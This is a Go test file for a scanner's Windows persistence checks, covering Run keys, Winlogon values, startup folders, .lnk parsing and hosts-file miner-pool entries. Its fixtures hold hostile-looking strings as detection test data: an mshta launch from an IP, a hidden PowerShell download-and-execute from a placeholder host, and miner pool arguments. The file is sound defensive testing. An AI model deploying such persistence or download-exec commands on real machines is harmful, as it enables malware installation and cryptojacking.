package windows

import (
	"bytes"
	"context"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/scanner/check"
)

// buildHive makes a hive with the project's own recipe (minimal-hive.pl,
// then hivexregedit --merge) from .reg text whose keys start with prefix.
func buildHive(t testing.TB, prefix, reg string) []byte {
	if _, err := exec.LookPath("hivexregedit"); err != nil {
		t.Skip("needs hivexregedit (Debian libwin-hivex-perl)")
	}
	dir := t.TempDir()
	h, r := filepath.Join(dir, "hive"), filepath.Join(dir, "in.reg")
	if err := os.WriteFile(r, []byte("Windows Registry Editor Version 5.00\n\n"+reg), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("perl", filepath.Join(repoRoot(t), "testdata/images/src/windows-hives/minimal-hive.pl"), h).CombinedOutput(); err != nil {
		t.Fatalf("minimal-hive.pl: %v %s", err, out)
	}
	if out, err := exec.Command("hivexregedit", "--merge", "--prefix", prefix, h, r).CombinedOutput(); err != nil {
		t.Fatalf("hivexregedit: %v %s", err, out)
	}
	b, err := os.ReadFile(h)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// regKeys declares key and all its parents, as hivexregedit needs.
func regKeys(root, key string, values ...string) string {
	var b strings.Builder
	parts := strings.Split(key, `\`)
	for i := range parts {
		b.WriteString("[" + root + `\` + strings.Join(parts[:i+1], `\`) + "]\n")
		if i == len(parts)-1 {
			for _, v := range values {
				b.WriteString(v + "\n")
			}
		}
		b.WriteString("\n")
	}
	return b.String()
}

func run(t testing.TB, c check.Check, dir string) *memSink {
	s := newSink()
	if err := c.Run(context.Background(), targetFor(t, dir), s); err != nil {
		t.Fatal(err)
	}
	return s
}

func rulesOn(s *memSink, keySuffix string) []string {
	var out []string
	for _, f := range s.sorted() {
		if strings.HasSuffix(f.Evidence.Key, keySuffix) {
			out = append(out, f.Rule+"="+f.Severity.String())
		}
	}
	return out
}

func TestServicesControlSet(t *testing.T) {
	const root = `HKEY_LOCAL_MACHINE\SYSTEM`
	svc := func(cs, name, image string) string {
		return regKeys(root, cs+`\Services\`+name, `"ImagePath"="`+strings.ReplaceAll(image, `\`, `\\`)+`"`, `"Start"=dword:00000002`)
	}
	cases := []struct {
		name, reg string
		want      string // service seen in the inventory
		err       bool
	}{
		{"Select\\Current=2", regKeys(root, "Select", `"Current"=dword:00000002`) + svc("ControlSet001", "One", `C:\Windows\one.exe`) + svc("ControlSet002", "Two", `C:\Windows\two.exe`), "Two", false},
		{"Select\\Current=1", regKeys(root, "Select", `"Current"=dword:00000001`) + svc("ControlSet001", "One", `C:\Windows\one.exe`) + svc("ControlSet002", "Two", `C:\Windows\two.exe`), "One", false},
		{"no Select", svc("ControlSet001", "One", `C:\Windows\one.exe`), "One", false},
		{"Select points nowhere", regKeys(root, "Select", `"Current"=dword:00000007`) + svc("ControlSet001", "One", `C:\Windows\one.exe`), "One", false},
		{"no control set", regKeys(root, "Setup"), "", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := tree(t, map[string][]byte{"Windows/System32/config/SYSTEM": buildHive(t, root, c.reg)})
			s := run(t, Services{}, dir)
			var names []string
			for _, i := range s.inventory {
				names = append(names, i.Fields["key"])
			}
			if (len(s.errors) > 0) != c.err {
				t.Errorf("errors %v, want error = %v", s.errors, c.err)
			}
			if c.want != "" && (len(names) != 1 || !strings.Contains(names[0], `\Services\`+c.want+`\`)) {
				t.Errorf("inventory %v, want only %s", names, c.want)
			}
		})
	}
}

func TestRunKeysTable(t *testing.T) {
	const sw, cu = `HKEY_LOCAL_MACHINE\SOFTWARE`, `HKEY_CURRENT_USER`
	cases := []struct {
		name   string
		files  map[string]string // hive path -> reg text (root chosen by path)
		key    string            // evidence key suffix to look at
		want   string            // rules=severity on that key, space separated; "" = inventory only
		user   string
		absent bool // the key must not even be in the inventory
	}{
		{"RunOnceEx subkey", map[string]string{"SOFTWARE": regKeys(sw, `Microsoft\Windows\CurrentVersion\RunOnceEx\0001`, `"x"="||C:\\Users\\Public\\a.dll|Start"`)},
			`RunOnceEx\0001\x`, "runkey.odd-place=high", "", false},
		{"Wow6432Node machine Run", map[string]string{"SOFTWARE": regKeys(sw, `Wow6432Node\Microsoft\Windows\CurrentVersion\Run`, `"m"="mshta.exe http://198.51.100.1/a.hta"`)},
			`Wow6432Node\Microsoft\Windows\CurrentVersion\Run\m`, "runkey.mshta=high", "", false},
		{"per-user Winlogon Shell", map[string]string{"Users/eve/NTUSER.DAT": regKeys(cu, `Software\Microsoft\Windows NT\CurrentVersion\Winlogon`, `"Shell"="C:\\Users\\eve\\AppData\\Roaming\\sh.exe"`)},
			`Winlogon\Shell`, "winlogon.non-default=high winlogon.odd-place=medium", "eve", false},
		{"default Userinit with comma", map[string]string{"SOFTWARE": regKeys(sw, `Microsoft\Windows NT\CurrentVersion\Winlogon`, `"Userinit"="C:\\Windows\\system32\\userinit.exe,"`, `"Shell"="explorer.exe"`)},
			`Winlogon\Userinit`, "", "", false},
		{"Default profile", map[string]string{"Users/Default/NTUSER.DAT": regKeys(cu, `Software\Microsoft\Windows\CurrentVersion\Run`, `"u"="C:\\Users\\Public\\u.exe"`)},
			`Run\u`, "runkey.odd-place=high", "Default", false},
		{"non-string value skipped", map[string]string{"SOFTWARE": regKeys(sw, `Microsoft\Windows\CurrentVersion\Run`, `"n"=dword:00000001`)},
			`Run\n`, "", "", true},
		{"case-folded key path", map[string]string{"SOFTWARE": regKeys(sw, `MICROSOFT\windows\CURRENTVERSION\run`, `"p"="powershell -w hidden -c calc"`)},
			`\p`, "runkey.powershell-hidden=high", "", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			files := map[string][]byte{}
			for p, reg := range c.files {
				root, full := cu, p
				if p == "SOFTWARE" {
					root, full = sw, "Windows/System32/config/SOFTWARE"
				}
				files[full] = buildHive(t, root, reg)
			}
			s := run(t, RunKeys{}, tree(t, files))
			if len(s.errors) != 0 {
				t.Errorf("errors: %v", s.errors)
			}
			if got := strings.Join(rulesOn(s, c.key), " "); got != c.want {
				t.Errorf("findings on %s: %q, want %q", c.key, got, c.want)
			}
			inv := false
			for _, i := range s.inventory {
				if strings.HasSuffix(i.Fields["key"], c.key) {
					inv = true
					if i.Fields["user"] != c.user {
						t.Errorf("user %q, want %q", i.Fields["user"], c.user)
					}
				}
			}
			if inv == c.absent {
				t.Errorf("in inventory: %v, want %v", inv, !c.absent)
			}
		})
	}
}

// lnkFile writes a shell link the way Windows does for a local target:
// header, LinkInfo with the local base path, and Unicode string data.
func lnkFile(target, args, workdir string) []byte {
	u16 := func(s string) []byte {
		var b []byte
		for _, r := range s {
			b = binary.LittleEndian.AppendUint16(b, uint16(r))
		}
		return b
	}
	var b bytes.Buffer
	hdr := make([]byte, 0x4c)
	binary.LittleEndian.PutUint32(hdr, 0x4c)
	copy(hdr[4:], []byte{0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46})
	flags := uint32(0x2 | 0x10 | 0x20 | 0x80) // LinkInfo, WorkingDir, Arguments, Unicode
	binary.LittleEndian.PutUint32(hdr[0x14:], flags)
	binary.LittleEndian.PutUint32(hdr[0x18:], 0x20) // FILE_ATTRIBUTE_ARCHIVE
	binary.LittleEndian.PutUint32(hdr[0x3c:], 1)    // SW_SHOWNORMAL
	b.Write(hdr)
	vol := make([]byte, 0x10)
	binary.LittleEndian.PutUint32(vol, 0x11)
	binary.LittleEndian.PutUint32(vol[4:], 3) // DRIVE_FIXED
	binary.LittleEndian.PutUint32(vol[8:], 0x1234abcd)
	binary.LittleEndian.PutUint32(vol[12:], 0x10)
	vol = append(vol[:0x10], 0) // empty volume label
	base := append([]byte(target), 0)
	li := make([]byte, 0x1c)
	volOff := 0x1c
	baseOff := volOff + len(vol)
	suffixOff := baseOff + len(base)
	size := suffixOff + 1
	binary.LittleEndian.PutUint32(li, uint32(size))
	binary.LittleEndian.PutUint32(li[4:], 0x1c)
	binary.LittleEndian.PutUint32(li[8:], 1) // VolumeIDAndLocalBasePath
	binary.LittleEndian.PutUint32(li[0xc:], uint32(volOff))
	binary.LittleEndian.PutUint32(li[0x10:], uint32(baseOff))
	binary.LittleEndian.PutUint32(li[0x18:], uint32(suffixOff))
	b.Write(li)
	b.Write(vol)
	b.Write(base)
	b.WriteByte(0)
	for _, s := range []string{workdir, args} {
		binary.Write(&b, binary.LittleEndian, uint16(len([]rune(s))))
		b.Write(u16(s))
	}
	b.Write([]byte{0, 0, 0, 0}) // terminal block
	return b.Bytes()
}

func TestParseLnk(t *testing.T) {
	target, args, wd := `C:\Users\Public\Libraries\svc.exe`, `-o pool.supportxmr.com:3333 --donate-level 1`, `C:\Users\Public`
	data := lnkFile(target, args, wd)
	l, err := parseLnk(data)
	if err != nil || l.Target != target || l.Arguments != args || l.WorkDir != wd {
		t.Fatalf("parseLnk = %+v, %v", l, err)
	}
	// liblnk's lnkinfo, an independent reader, must see the same link.
	if _, err := exec.LookPath("lnkinfo"); err == nil {
		p := filepath.Join(t.TempDir(), "a.lnk")
		os.WriteFile(p, data, 0o644)
		out, err := exec.Command("lnkinfo", p).CombinedOutput()
		if err != nil || !strings.Contains(string(out), target) || !strings.Contains(string(out), args) {
			t.Errorf("lnkinfo disagrees: %v\n%s", err, out)
		}
	} else {
		t.Log("lnkinfo (Debian liblnk-utils) not installed: link checked by our reader only")
	}
	for _, bad := range [][]byte{nil, data[:0x4c-1], data[:0x50], append([]byte("XXXX"), data[4:]...)} {
		if _, err := parseLnk(bad); err == nil && len(bad) < 0x4c {
			t.Errorf("parseLnk accepted %d bytes", len(bad))
		}
	}
}

func TestStartupTable(t *testing.T) {
	const machine = "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/"
	const user = "Users/carol/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/"
	cases := []struct {
		file string
		data []byte
		want string
	}{
		{machine + "miner.lnk", lnkFile(`C:\Users\Public\Libraries\svc.exe`, `-o pool.supportxmr.com:3333`, ""), "startup.miner=high startup.miner-pool=critical startup.odd-place=high"},
		{machine + "Vendor Tray.lnk", lnkFile(`C:\Program Files\Vendor\tray.exe`, `/startup`, ""), ""},
		{user + "run.vbs", []byte(`CreateObject("WScript.Shell").Run "powershell -w hidden -c iex(iwr http://x/a)", 0`), "startup.download-exec=high startup.invoke-expression=medium startup.script-host=medium startup.startup-script=low startup.odd-place=low"},
		{user + "a.exe", []byte("MZ"), "startup.startup-binary=medium"},
		{user + "desktop.ini", []byte("[.ShellClassInfo]"), ""},
		{user + "notes.txt", []byte("xmrig"), ""},
	}
	for _, c := range cases {
		t.Run(filepath.Base(c.file), func(t *testing.T) {
			s := run(t, Startup{}, tree(t, map[string][]byte{c.file: c.data}))
			var got []string
			for _, f := range s.sorted() {
				got = append(got, f.Rule+"="+f.Severity.String())
			}
			if g, w := sortedJoin(got), sortedJoin(strings.Fields(c.want)); g != w {
				t.Errorf("findings %s, want %s", g, w)
			}
			if len(s.inventory) != 1 || s.inventory[0].Kind != "startup" {
				t.Errorf("inventory: %+v", s.inventory)
			}
		})
	}
}

func sortedJoin(s []string) string {
	c := append([]string(nil), s...)
	for i := range c {
		for j := i + 1; j < len(c); j++ {
			if c[j] < c[i] {
				c[i], c[j] = c[j], c[i]
			}
		}
	}
	return strings.Join(c, " ")
}

func TestHostsTable(t *testing.T) {
	cases := []struct {
		hosts string
		want  string // rule@line, in order
	}{
		{"127.0.0.1 localhost\r\n45.9.148.21 pool.supportxmr.com\r\n", "hosts.pool-pinned=high@2"},
		{"# 1.2.3.4 xmr.nanopool.org\n10.0.0.1 nanopool.org.example.com\n", ""},
		{"0.0.0.0 a.example b.c3pool.com # blocked\n\n1.1.1.1 gulf.moneroocean.stream\n::1 xmr.nanopool.org\n", "hosts.pool-blocked=info@1 hosts.pool-pinned=high@3 hosts.pool-blocked=info@4"},
		{"pool.supportxmr.com 1.2.3.4\n", ""}, // not an address line
	}
	for _, c := range cases {
		s := run(t, Hosts{}, tree(t, map[string][]byte{"Windows/System32/drivers/etc/hosts": []byte(c.hosts)}))
		var got []string
		for _, f := range s.findings {
			got = append(got, f.Rule+"="+f.Severity.String()+"@"+strconv.Itoa(f.Evidence.Line))
			if f.Technique != "T1496.001" || f.Evidence.SHA256 == "" || f.Remediation == "" {
				t.Errorf("finding %+v", f)
			}
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%q: %v, want %s", c.hosts, got, c.want)
		}
	}
}

func TestResolveFold(t *testing.T) {
	dir := tree(t, map[string][]byte{"Windows/System32/Config/software": []byte("x")})
	fsys := targetFor(t, dir).FS
	cases := []struct{ in, want string }{
		{"Windows/System32/config/SOFTWARE", "Windows/System32/Config/software"},
		{"WINDOWS/system32/CONFIG/Software", "Windows/System32/Config/software"},
		{`\Windows\System32\Config\software`, "Windows/System32/Config/software"},
	}
	for _, c := range cases {
		if got, err := resolveFold(fsys, c.in); err != nil || got != c.want {
			t.Errorf("resolveFold(%q) = %q, %v; want %q", c.in, got, err, c.want)
		}
	}
	if _, err := resolveFold(fsys, "Windows/System32/config/SYSTEM"); err == nil {
		t.Error("absent file resolved")
	}
	if !IsRoot(fsys) {
		t.Error("IsRoot: false on a tree with the SOFTWARE hive")
	}
}
